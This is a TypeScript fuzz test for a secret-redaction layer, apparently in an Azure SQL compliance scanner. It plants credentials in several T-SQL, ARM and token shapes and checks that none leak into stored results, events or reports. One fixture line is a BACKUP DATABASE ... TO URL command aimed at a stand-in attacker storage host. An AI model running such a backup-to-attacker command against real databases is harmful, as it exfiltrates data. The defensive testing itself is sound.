import { test } from "node:test";
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import type { TargetResult } from "../../src/core/domain.js";
import { findSecret, redact } from "../../src/core/redaction.js";
import { toStoredResult } from "../../src/scan/run-scan.js";
import { eventsForResult } from "../../src/scan/result-events.js";
import { buildReport } from "../../src/core/report/build.js";
import { renderReport } from "../../src/core/report/render.js";
import { REPORT_FORMATS } from "../../src/core/report/render.js";
import { mulberry32, pick } from "../support/prng.js";

// Credentials planted in every string a result can carry (audited statements, ARM and SQL error text, reasons,
// evidence, plans) in every shape they take in the wild, then pushed through every sink: the stored result, the
// events, every report format. None of the planted secrets may come out, and the publish guard must agree.
const SEED = Number(process.env.FUZZ_SEED ?? 20261201);

/** A secret and the text that carries it, in the shapes T-SQL, ARM and connection strings use. */
function plant(random: () => number): { text: string; secret: string } {
  const secret = `S${randomBytes(9).toString("hex")}`;
  const key = randomBytes(64).toString("base64"); // a storage account key: 88 characters ending in ==
  const shapes: Array<() => { text: string; secret: string }> = [
    () => ({ text: `CREATE CREDENTIAL [https://a.blob.core.windows.net/c] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET /* c */ = '${secret}'`, secret }),
    () => ({ text: `ALTER LOGIN [x] WITH PASSWORD /**/ = N'${secret}''x'`, secret }),
    () => ({ text: `CREATE LOGIN [y] WITH PASSWORD -- why\n = "${secret}"`, secret }),
    () => ({ text: `SET QUOTED_IDENTIFIER OFF; CREATE CREDENTIAL c WITH IDENTITY = 'u', SECRET = "${secret}"`, secret }),
    () => ({ text: `CREATE LOGIN [z] WITH PASSWORD = 0x0200${secret.slice(1).replace(/[^0-9a-f]/g, "a")} HASHED`, secret: `0x0200${secret.slice(1).replace(/[^0-9a-f]/g, "a")}` }),
    () => ({ text: `The storage account key '${key}' is not valid for account 'auditlogs'.`, secret: key }),
    () => ({ text: `request failed: DefaultEndpointsProtocol=https;AccountName=a;AccountKey=${key};EndpointSuffix=core.windows.net`, secret: key }),
    () => ({ text: `BACKUP DATABASE [db] TO URL = N'https://evil.blob.core.windows.net/c/db.bak?sv=2022-11-02&ss=b&sig=${secret}%2B%3D&se=2026'`, secret }),
    () => ({ text: `{"storageAccountAccessKey":"${secret}"}`, secret }),
    () => ({ text: `Authorization: Bearer ${secret}.${secret}`, secret }),
    () => ({ text: `truncated at 4000 characters: CREATE CREDENTIAL c WITH SECRET = '${secret}`, secret }),
  ];
  return pick(random, shapes)();
}

function skeleton(): TargetResult {
  const target = { id: "/subscriptions/11111111-1111-4111-8111-111111111111/resourceGroups/rg/providers/Microsoft.Sql/servers/srv", kind: "sql-server" as const, name: "srv", subscriptionId: "11111111-1111-4111-8111-111111111111", resourceGroup: "rg", location: "westeurope", tags: {} };
  const action = { kind: "arm-auditing-put" as const, ruleIds: ["sql.auditing.enabled"], description: "Update the auditing policy", resourceId: target.id, policy: "auditingSettings" as const, body: { state: "Enabled", storageEndpoint: "https://a.blob.core.windows.net/" } };
  const activity = (message: string, statement: string) => ({
    ruleId: "activity.copy-only-backup",
    targetId: target.id,
    status: "fail" as const,
    severity: "high" as const,
    message,
    observedAt: "2026-12-01T10:00:00.000Z",
    evidence: { events: [{ time: "2026-12-01T09:59:00.000Z", actionId: "BA", actionName: "BACKUP", principal: "mallory", database: "sales", clientIp: "10.0.0.9", application: "sqlcmd", statement }] },
  });
  return {
    scanId: "20261201T100000-abcd1234",
    target,
    status: "noncompliant",
    reason: "reason",
    mode: "enforce",
    startedAt: "2026-12-01T10:00:00.000Z",
    finishedAt: "2026-12-01T10:00:05.000Z",
    findings: [activity("1 COPY_ONLY backup", "BACKUP DATABASE [sales] TO URL = N'https://x.blob.core.windows.net/c/s.bak' WITH COPY_ONLY"), { ruleId: "sql.auditing.enabled", targetId: target.id, status: "fail", severity: "critical", message: "state Disabled", observedAt: "2026-12-01T10:00:00.000Z", evidence: { policy: { state: "Disabled" } } }],
    plan: [action],
    applied: [],
    failedAction: { action, error: { code: "InvalidStorageAccountCredentials", message: "the key was refused" } },
    findingsAfter: [activity("1 COPY_ONLY backup", "BACKUP DATABASE [sales] TO URL = N'https://x.blob.core.windows.net/c/s.bak' WITH COPY_ONLY")],
  };
}

/** Every string leaf of a value, with a setter, so a secret can go anywhere a string goes. */
function stringLeaves(value: unknown, out: Array<(v: string) => void> = []): Array<(v: string) => void> {
  if (Array.isArray(value)) value.forEach((v, i) => (typeof v === "string" ? out.push((s) => (value[i] = s)) : stringLeaves(v, out)));
  else if (value && typeof value === "object") {
    for (const [k, v] of Object.entries(value as Record<string, unknown>)) {
      // Ids, kinds, statuses and times are structure, checked by schemas; secrets ride in free text.
      if (["id", "kind", "ruleId", "targetId", "status", "severity", "scanId", "subscriptionId", "resourceGroup", "time", "observedAt", "startedAt", "finishedAt", "mode", "policy", "resourceId", "actionId", "code"].includes(k)) continue;
      if (typeof v === "string") out.push((s) => ((value as Record<string, unknown>)[k] = s));
      else stringLeaves(v, out);
    }
  }
  return out;
}

test(`credentials planted anywhere in a result never reach the store, an event or a report (seed ${SEED})`, () => {
  const random = mulberry32(SEED);
  for (let round = 0; round < 120; round++) {
    const result = skeleton();
    const planted: string[] = [];
    const leaves = stringLeaves(result);
    for (let i = 0; i < 3; i++) {
      const { text, secret } = plant(random);
      pick(random, leaves)(text);
      planted.push(secret);
    }
    const outputs: Array<[string, string]> = [["stored result", JSON.stringify(toStoredResult(result, result.startedAt))]];
    for (const event of eventsForResult(result, { source: "urn:test", now: new Date() })) outputs.push([`event ${event.type}`, JSON.stringify(event)]);
    const report = buildReport({ results: [result], runs: [], now: new Date(), version: "test" });
    // CSV doubles every quote inside a quoted cell (RFC 4180); the guard reads each cell's own text.
    for (const format of REPORT_FORMATS) {
      const body = renderReport(report, format).body;
      if (format === "csv") csvCells(body).forEach((cell, i) => outputs.push([`report csv cell ${i}`, cell]));
      else outputs.push([`report ${format}`, body]);
    }
    for (const [where, text] of outputs) {
      for (const secret of planted) assert.ok(!text.includes(secret), `round ${round}: ${where} carries a planted secret (${secret.slice(0, 12)}…)`);
      const seen = findSecret(text);
      assert.equal(seen, undefined, `round ${round}: the publish guard still sees a credential in ${where}: ${seen ? firstChange(text) : ""}`);
    }
  }
});

test("redaction keeps the evidence: statements stay readable, the known credential identities stay", () => {
  const statement = "CREATE CREDENTIAL [https://a.blob.core.windows.net/c] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = 'sv=2022&sig=abc'";
  assert.equal(redact(statement), "CREATE CREDENTIAL [https://a.blob.core.windows.net/c] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = '[REDACTED]'");
  assert.equal(redact("CREATE CREDENTIAL c WITH IDENTITY = 'Managed Identity'"), "CREATE CREDENTIAL c WITH IDENTITY = 'Managed Identity'");
  assert.equal(redact("CREATE CREDENTIAL c WITH IDENTITY = 'svc-user', SECRET = 'p'"), "CREATE CREDENTIAL c WITH IDENTITY = '[REDACTED]', SECRET = '[REDACTED]'");
  for (const text of ["SECRET = '[REDACTED]'", "PASSWORD = N'[REDACTED]'", "sig=[REDACTED]", "AccountKey=[REDACTED]", "Bearer [REDACTED]", "[REDACTED-KEY]"]) {
    assert.equal(redact(text), text, "redaction is idempotent");
    assert.equal(findSecret(text), undefined);
  }
});

/** Where redaction would change a text: a few characters around the first difference. */
function firstChange(text: string): string {
  const after = redact(text);
  let i = 0;
  while (i < text.length && text[i] === after[i]) i++;
  return JSON.stringify(text.slice(Math.max(0, i - 60), i + 60));
}

/** The cells of an RFC 4180 document, unquoted. */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === "," || c === "\n") {
      cells.push(cell);
      cell = "";
    } else if (c !== "\r") cell += c;
  }
  cells.push(cell);
  return cells;
}
